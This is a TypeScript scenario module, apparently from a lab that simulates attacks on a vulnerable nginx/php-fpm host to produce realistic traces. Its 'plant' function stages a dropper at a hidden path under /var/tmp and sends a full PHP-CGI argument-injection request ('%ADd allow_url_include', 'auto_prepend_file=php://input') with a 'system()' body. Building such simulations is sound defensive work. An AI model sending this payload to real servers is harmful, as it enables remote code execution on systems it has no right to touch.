// Real nginx and php-fpm; the page plays the old PHP.

import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { ordinary } from '../../past.ts'
import { vulnerablePhp } from '../../php.ts'
import type { Stage } from '../../stage.ts'

export function dress(dress: Dress): void {
  vulnerablePhp(dress)
  dress.logins(ordinary)
}

export async function plant(stage: Stage): Promise<void> {
  const line = dropper(stage, { path: '/var/tmp/.php/php-cache' })
  await stage.scan('203.0.113.44')
  stage.mark('occurrence')
  await stage.http(
    '203.0.113.55',
    '/index.php?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input',
    `<?php system('${line}'); ?>`,
  )
}
